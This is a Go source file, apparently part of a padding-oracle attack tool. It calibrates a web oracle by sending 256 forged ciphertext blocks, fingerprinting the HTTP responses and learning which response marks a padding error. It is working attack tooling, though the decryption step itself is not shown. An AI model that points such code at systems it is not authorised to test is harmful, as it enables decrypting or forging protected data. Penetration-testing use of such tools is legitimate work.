package oracle

import (
	"context"
	"crypto/sha256"
	"errors"
	"fmt"
	"sync"

	log "github.com/sirupsen/logrus"

	"github.com/nzkv/pado/blocks"
)

// Script oracles signal verdicts through exit codes; only web oracles need to
// learn what a padding error looks like.

var (
	// ErrCalibrationAmbiguous means the sample could not be split into a
	// majority and a minority class.
	ErrCalibrationAmbiguous = errors.New("calibration ambiguous: response classes cannot be told apart; try --consider-body")

	// ErrOracleAlwaysRespondsSame means every sample produced the same
	// response, so padding verdicts are indistinguishable.
	ErrOracleAlwaysRespondsSame = errors.New("oracle always responds the same; try --consider-body")
)

// calibrationSamples covers one byte's candidate space against one target
// block. Correct padding turns up roughly once per 256 samples, which yields
// the minority class.
const calibrationSamples = 256

// Fingerprint condenses a web response into the attributes that can
// distinguish a padding error from correct padding. ContentLength and
// BodyHash only participate when consider-body is set; ContentLength is -1
// and BodyHash zero otherwise.
type Fingerprint struct {
	Status        int
	Location      string
	ContentLength int64
	BodyHash      [sha256.Size]byte
}

func (f Fingerprint) equal(other Fingerprint) bool { return f == other }

// merged drops everything but status and content length. Used to collapse
// noisy response classes.
func (f Fingerprint) merged() Fingerprint {
	return Fingerprint{Status: f.Status, ContentLength: f.ContentLength}
}

func (f Fingerprint) String() string {
	s := fmt.Sprintf("status=%d", f.Status)
	if f.Location != "" {
		s += fmt.Sprintf(" location=%s", f.Location)
	}
	if f.ContentLength >= 0 {
		s += fmt.Sprintf(" content-length=%d", f.ContentLength)
	}
	return s
}

// Calibrate learns how the web oracle signals a padding error by cycling the
// last byte of a forged predecessor through all values against a fixed target
// block and splitting the responses into a majority (padding error) and a
// minority (correct padding) class. The learned predicate is immutable for
// the rest of the run.
func Calibrate(ctx context.Context, w *Web, ct *blocks.Ciphertext, workers int) error {
	target := ct.Block(ct.AmountBlocks() - 1)
	blockSize := ct.BlockSize()

	retried := false
	for {
		counts, err := sampleResponses(ctx, w, target, blockSize, workers)
		if err != nil {
			return fmt.Errorf("calibration traffic failed: %w", err)
		}
		log.Debugf("calibration saw %d response class(es)", len(counts))

		merged := false
		if len(counts) >= 3 {
			if w.cfg.ConsiderBody && !retried {
				log.Warnf("calibration saw %d response classes, sampling again", len(counts))
				retried = true
				continue
			}
			counts = mergeClasses(counts)
			merged = true
		}

		switch len(counts) {
		case 1:
			return ErrOracleAlwaysRespondsSame
		case 2:
			padErr, padOK, err := splitClasses(counts)
			if err != nil {
				return err
			}
			w.setCalibration(padErr, padOK, merged)
			log.Infof("calibrated the web oracle")
			log.Infof("- padding error: %s", padErr)
			log.Infof("- correct padding: %s", padOK)
			return nil
		default:
			return ErrCalibrationAmbiguous
		}
	}
}

// sampleResponses submits the calibration ciphertexts and tallies response
// fingerprints, bounded by the shared worker count.
func sampleResponses(ctx context.Context, w *Web, target []byte, blockSize, workers int) (map[Fingerprint]int, error) {
	if workers < 1 {
		workers = 1
	}
	sem := make(chan struct{}, workers)

	var (
		mu       sync.Mutex
		counts   = make(map[Fingerprint]int)
		firstErr error
		wg       sync.WaitGroup
	)

	for v := 0; v < calibrationSamples; v++ {
		wg.Add(1)
		go func(v byte) {
			defer wg.Done()
			defer func() {
				if r := recover(); r != nil {
					mu.Lock()
					if firstErr == nil {
						firstErr = fmt.Errorf("calibration question panicked: %v", r)
					}
					mu.Unlock()
				}
			}()
			sem <- struct{}{}
			defer func() { <-sem }()

			mu.Lock()
			failed := firstErr != nil
			mu.Unlock()
			if failed || ctx.Err() != nil {
				return
			}

			forged := make([]byte, blockSize, blockSize*2)
			forged[blockSize-1] = v
			forged = append(forged, target...)

			fp, err := fingerprintWithRetry(ctx, w, forged)

			mu.Lock()
			defer mu.Unlock()
			if err != nil {
				if firstErr == nil {
					firstErr = err
				}
				return
			}
			counts[fp]++
		}(byte(v))
	}
	wg.Wait()

	if firstErr != nil {
		return nil, firstErr
	}
	if err := ctx.Err(); err != nil {
		return nil, err
	}
	return counts, nil
}

func fingerprintWithRetry(ctx context.Context, w *Web, forged []byte) (Fingerprint, error) {
	backoff := w.Delay()
	if backoff <= 0 {
		backoff = retryBaseDelay
	}

	var lastErr error
	for attempt := 1; attempt <= RetryMaxAttempts; attempt++ {
		if attempt > 1 {
			log.Warnf("calibration question failed, retrying (%d/%d): %v", attempt, RetryMaxAttempts, lastErr)
			if err := sleep(ctx, backoff); err != nil {
				return Fingerprint{}, err
			}
			backoff *= 2
		}
		if err := sleep(ctx, w.Delay()); err != nil {
			return Fingerprint{}, err
		}

		fp, err := w.fingerprint(ctx, forged)
		if err == nil {
			return fp, nil
		}
		if ctx.Err() != nil {
			return Fingerprint{}, ctx.Err()
		}
		lastErr = err
	}
	return Fingerprint{}, fmt.Errorf("no calibration response after %d attempts: %w", RetryMaxAttempts, lastErr)
}

func mergeClasses(counts map[Fingerprint]int) map[Fingerprint]int {
	merged := make(map[Fingerprint]int)
	for fp, n := range counts {
		merged[fp.merged()] += n
	}
	return merged
}

// splitClasses picks the majority class as the padding error and the minority
// as correct padding. A tie means the oracle cannot be trusted.
func splitClasses(counts map[Fingerprint]int) (padErr, padOK Fingerprint, err error) {
	fps := make([]Fingerprint, 0, 2)
	for fp := range counts {
		fps = append(fps, fp)
	}
	if counts[fps[0]] == counts[fps[1]] {
		return Fingerprint{}, Fingerprint{}, ErrCalibrationAmbiguous
	}
	if counts[fps[0]] > counts[fps[1]] {
		return fps[0], fps[1], nil
	}
	return fps[1], fps[0], nil
}
